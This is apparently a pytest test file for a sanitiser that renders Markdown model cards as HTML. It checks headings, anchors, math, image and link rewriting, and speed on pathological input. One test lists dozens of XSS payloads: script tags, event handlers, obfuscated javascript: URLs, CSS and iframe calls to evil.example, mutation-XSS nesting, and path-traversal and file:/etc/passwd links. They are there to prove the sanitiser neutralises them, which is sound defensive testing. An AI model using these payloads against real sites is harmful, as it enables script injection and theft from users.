from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest

from store.console.card import ATTRIBUTES, MAX_CHARS, TAGS, card_html

MODEL, REVISION = "acme/bard", "a" * 40
IMAGE = f"/{MODEL}/image/{REVISION}/"
SLOW_S = 10  # of the processor; the worst of these takes two


class Seen(HTMLParser):
    """Every tag and attribute that a browser would see."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))


def shown(text: str) -> str:
    return card_html(text, model=MODEL, revision=REVISION)


def is_harmless(html: str) -> bool:
    """Only tags and attributes of the list, no address but the store's own, http(s), mailto and anchors of the card."""
    for tag, attributes in Seen(html).tags:
        assert tag in TAGS, tag
        assert set(attributes) <= ATTRIBUTES.get(tag, set()) | {"id", "rel"}, (tag, attributes)
        assert attributes.get("id", "card-").startswith("card-")
        assert "src" not in attributes or attributes["src"].startswith(IMAGE)
        link = attributes.get("href", "#card-")
        assert re.match(rf"https?://|mailto:|#card-|/{MODEL}/resolve/{REVISION}/", link, re.IGNORECASE), link
    return True


def test_markdown_becomes_html_one_heading_level_down() -> None:
    html = shown("# Bard\n\nSome **verse** and ~~prose~~.\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n")
    assert '<h2 id="card-bard">Bard</h2>' in html
    assert "<strong>verse</strong>" in html
    assert "<s>prose</s>" in html
    assert '<td align="right">2</td>' in html


def test_headings_are_anchors_of_their_own_and_links_find_them() -> None:
    html = shown("## How to\n\n## How to\n\n## 怎么用\n\n[up](#how-to) <a href='#card-how-to'>up</a>")
    assert 'id="card-how-to"' in html
    assert 'id="card-how-to-1"' in html
    assert 'id="card-怎么用"' in html
    assert html.count('href="#card-how-to"') == 2


def test_code_keeps_its_language_and_no_other_class() -> None:
    html = shown('```python\nx = 1\n```\n\n<code class="btn language-rust">y</code><code class="btn">z</code>')
    assert '<code class="language-python">' in html
    assert '<code class="language-rust">y</code><code>z</code>' in html


def test_tasks_say_whether_they_are_done() -> None:
    html = shown("- [x] trained\n- [ ] slept\n- [link](https://a.example)\n")
    assert '<li class="task">☑ trained</li>' in html
    assert '<li class="task">☐ slept</li>' in html
    assert "<li><a" in html


@pytest.mark.parametrize(
    ("text", "formula"),
    [
        ("so $a_1 * b_2 * c$ is", "a_1 * b_2 * c"),
        (r"so \(x < y\) is", "x &lt; y"),
        (r"so \[\sum_i x_i\] is", r"\sum_i x_i"),
        ("$$\n- a\n= b\n$$", "- a\n= b"),
        ("$$E = mc^2$$", "E = mc^2"),
    ],
)
def test_a_formula_is_shown_as_it_was_written(text: str, formula: str) -> None:
    assert f'<code class="math">{formula}</code>' in shown(text)


def test_prices_are_no_formulas() -> None:
    assert "math" not in shown("It costs $5 a day, or $6, $7 and US$8. Never $ 9 $.")


def test_an_image_of_the_release_is_served_by_the_store() -> None:
    html = shown('![A plot](assets/plot.png) <img alt="B" src="./b.webp" width="900">')
    assert f'<img src="{IMAGE}assets/plot.png" alt="A plot">' in html
    assert f'<img src="{IMAGE}b.webp" alt="B">' in html
    assert is_harmless(html)


@pytest.mark.parametrize(
    "text",
    [
        "![A chart](https://a.example/c.png)",
        '<img src="https://a.example/c.png" alt="A chart">',
        "<p align=center><IMG alt='A chart' SRC=https://a.example/c.png></p>",
        "[![A chart](https://a.example/c.png)](https://a.example/c.png)",
    ],
)
def test_an_image_from_elsewhere_becomes_a_link_that_gives_no_credit(text: str) -> None:
    html = shown(text)
    assert '<a href="https://a.example/c.png"' in html
    assert "nofollow" in html
    assert "A chart" in html
    assert "<img" not in html


def test_relative_links_lead_to_the_files_of_the_release_and_never_out_of_it() -> None:
    html = shown("[a](LICENSE) [b](./docs/x%20y.md) [c](../../admin) [d](/wallet) [e](//evil.example/x)")
    assert f'href="/{MODEL}/resolve/{REVISION}/LICENSE"' in html
    assert f'href="/{MODEL}/resolve/{REVISION}/docs/x%20y.md"' in html
    assert len(re.findall("href", html)) == 2


def test_without_a_revision_images_and_relative_links_are_words() -> None:
    html = card_html("![plot](a.png) [b](LICENSE) [c](https://a.example)")
    assert "<img" not in html
    assert re.findall(r'href="([^"]*)"', html) == ["https://a.example"]


@pytest.mark.parametrize(
    "attack",
    [
        "<script>alert(1)</script>",
        "<ScRiPt/src=//evil.example>",
        "<img src=x onerror=alert(1)>",
        "<img src='a.png' onerror=alert(1)>",
        '<img src="a.png\'onerror=alert(1)//">',
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "<a href='java&#x73;cript:alert(1)'>x</a>",
        "<a href=' \x01javascript:alert(1)'>x</a>",
        "<a href='java\tscript:alert(1)'>x</a>",
        "<a href='vbscript:x'>x</a><a href='blob:x'>x</a><a href='file:/etc/passwd'>x</a>",
        "![x](javascript:alert(1))",
        '![x](https://a.example/"onload=alert(1))',
        "![x](data:image/svg+xml;base64,PHN2Zz4=)",
        "<img src=data:image/png;base64,AAAA>",
        "<img srcset='https://evil.example/x 1x' src='a.png'>",
        "![x](../../../accounts/logout.png)",
        "![x](%2e%2e/%2e%2e/x.png)",
        "![x](\\\\evil.example\\x.png)",
        "![x](assets/plot.svg)",
        "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        '<p style="position:fixed" onclick="alert(1)" id="main" class="btn">x</p>',
        "<div style='background:url(https://evil.example/x)'>x</div>",
        "<td background=https://evil.example/x>x</td>",
        "<style>@import url(https://evil.example/x);body{display:none}</style>",
        "<style>*{background:url(//evil.example)}",
        "<svg onload=alert(1)><image href=https://evil.example/x></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<iframe src=//evil.example></iframe><form action=/wallet/top-up method=post><button>x</button></form>",
        "<object data=x></object><embed src=x><video src=x><audio src=x><source srcset=x><track src=x>",
        "<link rel=stylesheet href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example>",
        "<input autofocus onfocus=alert(1)><textarea><select><keygen>",
        "<details open ontoggle=alert(1)>x</details>",
        "<a href='https://a.example' target=_top ping=//evil.example onmouseover=alert(1)>x</a>",
        '<a title="<img src=x onerror=alert(1)>" href="#x">x</a>',
        '<a title="<img alt=" href="https://a.example">x</a>',
        "<!-- <script> --><img src=x onerror=alert(1)>-->",
        "<![CDATA[<script>alert(1)</script>]]><?php x ?>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
        "```html onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
        '```"><script>alert(1)</script>\nx\n```',
        "$</code><script>alert(1)</script>$",
        "$$\n</code></pre><script>alert(1)</script>\n$$",
        "| <script>x</script> |\n|---|\n| <img src=x onerror=y> |",
        '# <a id="main" name="user">x</a> "><script>alert(1)</script>',
        "[x]: javascript:alert(1)\n[x]",
        "<javascript:alert(1)>",
        "<xss id=x tabindex=1 onactivate=alert(1)></xss>",
        "\u202e<script>\u202c",
        "＜script＞alert(1)＜/script＞",
        "<scr\x00ipt>alert(1)</scr\x00ipt>",
        "<a href='https://a.example\u2028onclick=alert(1)'>x</a>",
    ],
)
def test_nothing_in_a_card_can_act(attack: str) -> None:
    for text in (attack, f"# Bard\n\n{attack}\n\nmore", f"- {attack}", f"> {attack}"):
        assert is_harmless(shown(text))
        assert is_harmless(card_html(text))


def test_text_cannot_turn_the_page_around() -> None:
    assert "\u202e" not in shown("a \u202eevil\u202c b")


@pytest.mark.parametrize(
    "text",
    [
        "![[" * (MAX_CHARS // 3),
        "*a_ " * (MAX_CHARS // 4),
        "$a" * (MAX_CHARS // 2),
        "\\(" * (MAX_CHARS // 2),
        "$$\n" * (MAX_CHARS // 3),
        "<div>" * (MAX_CHARS // 5),
        "<img " * (MAX_CHARS // 5),
        "<table><tr><td>" * (MAX_CHARS // 15),
        "- " * (MAX_CHARS // 2),
        "|a" * (MAX_CHARS // 4) + "\n" + "|-" * (MAX_CHARS // 4),
        "# x\n" * (MAX_CHARS // 4),
        "🙂\u0301" * (MAX_CHARS // 2),
    ],
    ids=lambda text: repr(text[:12]),
)
def test_a_card_of_100_000_characters_is_shown_in_time(text: str) -> None:
    began = time.process_time()
    assert is_harmless(shown(text))
    assert time.process_time() - began < SLOW_S


def test_a_card_without_end_is_cut() -> None:
    assert len(shown("a" * (MAX_CHARS * 3))) < MAX_CHARS * 2
